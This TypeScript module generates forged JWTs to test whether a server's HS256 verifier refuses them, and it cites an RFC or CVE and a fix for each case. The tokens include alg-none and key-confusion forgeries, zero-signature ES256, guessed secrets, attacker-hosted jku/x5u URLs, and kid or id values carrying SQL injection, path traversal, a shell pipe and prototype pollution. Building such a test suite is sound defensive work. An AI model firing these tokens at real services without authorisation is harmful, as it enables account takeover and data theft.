import { exportJWK, exportSPKI } from 'jose'
import { deflated, encode, forge, hmac, type Sign, strangeKey, unsigned } from './forge.js'

/** One token that a verifier gets, and what a verifier owes it. */
export interface Attack {
  readonly name: string
  readonly token: string
  /** What a verifier that takes it has missed. */
  readonly tries: string
  /** `either`: the secret signed it, or libraries differ, so it may be accepted; it must not break the server all the same. */
  readonly must: 'refuse' | 'either'
  readonly source: string
  /** What to do where it is accepted and must not be; empty where it may be. */
  readonly fix: string
}

export interface AttackOptions {
  /** Of a token that the server takes: id, and what else it asks for. */
  readonly claims: Readonly<Record<string, unknown>>
  readonly secret: string
  /** PEM; one that is made up when absent. */
  readonly publicKey?: string | undefined
  /** Milliseconds since 1970. */
  readonly now: number
}

const header = { alg: 'HS256', typ: 'JWT' }

const onlyHs256 = 'Name HS256 as the only algorithm where the token is verified.'

/** Another user, whose history a forger would like to read. */
const victim = 'victim1'

/** Every attack, and first of all the token that must be accepted: without it a refusal says nothing. */
export const makeAttacks = async ({ claims, secret, publicKey, now }: AttackOptions): Promise<{ good: string; attacks: readonly Attack[] }> => {
  const own = hmac(secret)
  const good = await forge(header, claims, own)
  const [head = '', payload = '', signature = ''] = good.split('.')
  const forged = { ...claims, id: victim }
  const [rsa, ec] = await Promise.all([strangeKey('RS256'), strangeKey('ES256')])
  const pem = publicKey ?? (await exportSPKI(rsa.publicKey))
  const hint = publicKey === undefined ? ' (one made up here: --public-key FILE tries yours)' : ''
  const seconds = Math.floor(now / 1_000)

  const attacks: Attack[] = []
  const add =
    (must: Attack['must'], source: string, fix = '') =>
    (name: string, token: string, tries: string) => {
      attacks.push({ name, token, tries, must, source, fix })
    }
  const none = add('refuse', 'RFC 8725, 3.1', onlyHs256)
  // Names are those of files, and there are file systems to which None and none are one.
  for (const [spelt, alg] of Object.entries({ lower: 'none', title: 'None', upper: 'NONE', mixed: 'nOnE' })) {
    none(`none-${spelt}`, await forge({ ...header, alg }, forged, unsigned), `the header says alg ${alg}, and there is no signature`)
    none(
      `none-${spelt}-signed`,
      `${encode({ ...header, alg })}.${encode(forged)}.${signature}`,
      `the header says alg ${alg}, over the signature of another token`,
    )
  }
  none('alg-missing', await forge({ typ: 'JWT' }, forged, unsigned), 'the header names no algorithm')
  none('alg-empty', await forge({ ...header, alg: '' }, forged, unsigned), 'the algorithm is an empty text')
  none('alg-null', await forge({ ...header, alg: null }, forged, unsigned), 'the algorithm is null')
  none('alg-list', await forge({ ...header, alg: ['none', 'HS256'] }, forged, unsigned), 'the algorithm is a list')
  none('alg-twice', await forge('{"alg":"HS256","alg":"none","typ":"JWT"}', forged, unsigned), 'the header names two algorithms, the last one none')
  none('alg-unknown', await forge({ ...header, alg: 'HS1' }, forged, unsigned), 'the algorithm is one that nobody has')

  const confused = add('refuse', 'RFC 8725, 2.1 and 3.1; CVE-2015-9235', onlyHs256)
  confused('public-key-as-secret', await forge(header, forged, hmac(pem)), `HS256 with the public key as its secret${hint}`)
  confused('public-key-trimmed', await forge(header, forged, hmac(pem.trim())), `the same without the last line break of the key${hint}`)
  confused('rs256-of-stranger', await forge({ ...header, alg: 'RS256' }, forged, rsa.sign), 'RS256 with a key of the attacker')
  confused('es256-of-stranger', await forge({ ...header, alg: 'ES256' }, forged, ec.sign), 'ES256 with a key of the attacker')
  confused('rs256-by-secret', await forge({ ...header, alg: 'RS256' }, forged, hmac('')), 'says RS256 and carries an HMAC with an empty key')
  const zeros: Sign = async () => new Uint8Array(64)
  add('refuse', 'CVE-2022-21449', onlyHs256)('es256-zeros', await forge({ ...header, alg: 'ES256' }, forged, zeros), 'ES256 whose signature is all zeros')

  const otherHash = add('either', 'Jivo names HS256 alone')
  otherHash('hs384', await forge({ ...header, alg: 'HS384' }, claims, hmac(secret, 'SHA-384')), 'the right secret with HS384')
  otherHash('hs512', await forge({ ...header, alg: 'HS512' }, claims, hmac(secret, 'SHA-512')), 'the right secret with HS512')
  otherHash('alg-lower-case', await forge({ ...header, alg: 'hs256' }, claims, own), 'the right secret, and the algorithm in small letters')

  const weak = add('refuse', 'RFC 8725, 3.2 and 3.5', 'Verify with the secret of the channel, and stop at the start when it is not set.')
  weak('wrong-secret', await forge(header, forged, hmac('a-secret-that-this-server-does-not-have-0')), 'another secret')
  weak('empty-secret', await forge(header, forged, hmac('')), 'an empty secret, as a variable that is not set gives')
  for (const guess of ['secret', 'undefined', 'null', 'your-256-bit-secret']) {
    weak(`guessed-secret-${guess}`, await forge(header, forged, hmac(guess)), `the secret "${guess}"`)
  }

  const unsound = add('refuse', 'RFC 7515, 5.2', 'Verify the signature before any claim is read: decoding is not verifying.')
  unsound('signature-empty', `${head}.${payload}.`, 'the signature is left out')
  unsound('signature-missing', `${head}.${payload}`, 'the third part is left out')
  unsound('signature-bit', `${head}.${payload}.${withFirstBit(signature)}`, 'one bit of the signature is another')
  unsound('signature-half', `${head}.${payload}.${signature.slice(0, 20)}`, 'the first half of the signature, for those who compare only its length')
  unsound('signature-letter', `${head}.${payload}.${signature.slice(0, -1)}`, 'the signature without its last letter')
  unsound('signature-zeros', await forge(header, forged, async () => new Uint8Array(32)), 'a signature of zeros')
  unsound('payload-swapped', `${head}.${encode(forged)}.${signature}`, 'another user under a signature that was made for this one')
  unsound('header-swapped', `${encode({ ...header, kid: '1' })}.${payload}.${signature}`, 'another header under the same signature')
  unsound('payload-empty', `${head}..${signature}`, 'the payload is left out')
  unsound('payload-spaced', `${head}.${payload.slice(0, 4)} ${payload.slice(4)}.${signature}`, 'a space in the middle of the payload')
  unsound('payload-padded', `${head}.${payload}=.${signature}`, 'the payload has "=" behind it, and the signature was made without')
  unsound('truncated', good.slice(0, Math.floor(good.length / 2)), 'the first half of a token')
  unsound('four-parts', `${good}.${signature}`, 'a fourth part')
  unsound('five-parts', `${encode({ alg: 'dir', enc: 'A256GCM' })}....`, 'the five parts of an encrypted token')
  unsound('dots', '..', 'nothing but dots')
  unsound('word', 'undefined', 'the word undefined, as a page without a token sends')
  unsound('html', '%3Cscript%3E.%00.%FF', 'percent signs where base64url is expected')
  unsound('header-no-json', await forge('{"alg":"HS256"', forged, hmac('')), 'the header is JSON that is cut off')
  unsound('header-list', await forge('["HS256"]', forged, hmac('')), 'the header is a list')
  unsound('deep', await forge(header, `${'['.repeat(3_000)}${']'.repeat(3_000)}`, hmac('')), 'three thousand lists within each other, with a wrong secret')
  unsound('huge', await forge(header, { ...forged, filling: 'x'.repeat(9_000) }, hmac('wrong')), 'a token of 12 kB with a wrong secret')

  const keyTricks = add('refuse', 'RFC 8725, 3.9 and 3.10; RFC 7515, 4.1', 'Take the key from your settings, never from the token.')
  const oct = { kty: 'oct', k: encode('attacker'), alg: 'HS256' }
  const publicJwk = await exportJWK(rsa.publicKey)
  keyTricks('jwk-rsa', await forge({ alg: 'RS256', jwk: publicJwk }, forged, rsa.sign), 'the header brings the public key to check it with; CVE-2018-0114')
  keyTricks('jwk-secret', await forge({ ...header, jwk: oct }, forged, hmac('attacker')), 'the header brings the secret to check it with')
  keyTricks(
    'jku',
    await forge({ alg: 'RS256', kid: '1', jku: 'https://keys.attacker.invalid/jwks.json' }, forged, rsa.sign),
    'keys at an address of the attacker',
  )
  keyTricks('x5u', await forge({ alg: 'RS256', x5u: 'https://keys.attacker.invalid/key.pem' }, forged, rsa.sign), 'a certificate at an address of the attacker')
  keyTricks('x5c', await forge({ alg: 'RS256', x5c: ['bm90IGEgY2VydGlmaWNhdGU='] }, forged, rsa.sign), 'the header brings a certificate')
  keyTricks(
    'kid-path',
    await forge({ ...header, kid: '../../../../../../dev/null' }, forged, hmac('')),
    'kid is the path of an empty file, and the key is empty',
  )
  keyTricks(
    'kid-sql',
    await forge({ ...header, kid: "x' UNION SELECT 'attacker' -- " }, forged, hmac('attacker')),
    'kid is SQL that selects the key of the attacker',
  )
  keyTricks('kid-shell', await forge({ ...header, kid: 'key|sleep 0' }, forged, hmac('attacker')), 'kid is a command of a shell')
  keyTricks('kid-object', await forge({ ...header, kid: { $ne: null } }, forged, hmac('attacker')), 'kid is an object, as queries of a database take')
  keyTricks('kid-proto', await forge({ ...header, kid: '__proto__' }, forged, hmac('[object Object]')), 'kid is the name that every object of JavaScript has')

  const extended = add('refuse', 'RFC 7515, 4.1.11', 'Refuse a header that has crit before a library reads it: not every library does.')
  extended(
    'crit',
    await forge({ ...header, crit: ['urn:jivo-dev:unknown'], 'urn:jivo-dev:unknown': true }, claims, own),
    'the right secret, and an extension that must be understood',
  )
  const ruled = add('refuse', 'RFC 7519, 4.1 and 7.2', 'Have exp and nbf checked, and refuse a payload that is no object.')
  ruled('zip', await forge({ ...header, zip: 'DEF' }, deflated(JSON.stringify(claims)), own), 'the right secret over a payload that is compressed')
  ruled('nested', await forge({ ...header, cty: 'JWT' }, good, own), 'the right secret over another token instead of claims')
  ruled('payload-no-json', await forge(header, `id=${victim}`, own), 'the right secret over a payload that is no JSON')
  ruled('expired', await forge(header, { ...claims, iat: seconds - 7_200, exp: seconds - 3_600 }, own), 'the right secret, and exp an hour ago')
  ruled('not-yet', await forge(header, { ...claims, nbf: seconds + 3_600 }, own), 'the right secret, and nbf in an hour')

  const odd = add('either', 'the secret signed it; what to do with it is for the server to say, but it must say it')
  odd('payload-list', await forge(header, [claims] as never, own), 'the payload is a list')
  odd('payload-null', await forge(header, 'null', own), 'the payload is null')
  odd('exp-text', await forge(header, { ...claims, exp: 'never' }, own), 'exp is a text')
  odd('id-twice', await forge(header, `{"id":${JSON.stringify(claims.id)},"id":"${victim}"}`, own), 'two ids')
  odd('not-utf8', await forge(header, new Uint8Array([...deflated('{"id":"').slice(5), 0xff, 0xfe, 0x22, 0x7d]), own), 'bytes in the id that are not UTF-8')
  odd('id-missing', await forge(header, without(claims, 'id'), own), 'there is no id')
  odd('id-empty', await forge(header, { ...claims, id: '' }, own), 'an empty id')
  odd('id-number', await forge(header, { ...claims, id: 1e21 }, own), 'the id is a number')
  odd('id-list', await forge(header, { ...claims, id: [claims.id, victim] }, own), 'the id is a list')
  odd('id-object', await forge(header, { ...claims, id: { $ne: null } }, own), 'the id is an object, as queries of a database take')
  odd('id-true', await forge(header, { ...claims, id: true }, own), 'the id is true')
  odd('id-null', await forge(header, { ...claims, id: null }, own), 'the id is null')
  odd('id-cyrillic', await forge(header, { ...claims, id: '\u0430dmin' }, own), 'the id begins with a Cyrillic letter that looks Latin')
  odd('id-zero-byte', await forge(header, { ...claims, id: `${victim}\u0000` }, own), 'the id ends with a zero byte')
  odd('id-sql', await forge(header, { ...claims, id: "1' OR '1'='1" }, own), 'the id is SQL')
  odd('id-path', await forge(header, { ...claims, id: '../../etc/passwd' }, own), 'the id is a path')
  odd('proto', await forge(header, '{"__proto__":{"id":"victim1"}}', own), 'the id is in the prototype that some readers would make')

  const lenient = add('either', 'RFC 7515, 2 and 3; the bytes of the signature are right, and libraries differ')
  lenient('signature-padded', `${good}=`, 'the signature has "=" behind it')
  lenient('signature-spaced', `${head}.${payload}.${signature.slice(0, 8)} ${signature.slice(8)}`, 'a space in the middle of the signature')
  lenient('signature-spare-bits', `${head}.${payload}.${withSpareBit(signature)}`, 'the last letter of the signature has a bit set that stands for nothing')
  lenient('json-form', JSON.stringify({ payload, protected: head, signature }), 'the JSON form of a signed token')

  return { good, attacks }
}

const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

const withFirstBit = (text: string) => `${alphabet[alphabet.indexOf(text[0] ?? 'A') ^ 32]}${text.slice(1)}`

/** 32 bytes leave two bits over in their last letter. */
const withSpareBit = (text: string) => `${text.slice(0, -1)}${alphabet[alphabet.indexOf(text.at(-1) ?? 'A') ^ 1]}`

const without = (claims: Readonly<Record<string, unknown>>, name: string) => Object.fromEntries(Object.entries(claims).filter(([key]) => key !== name))
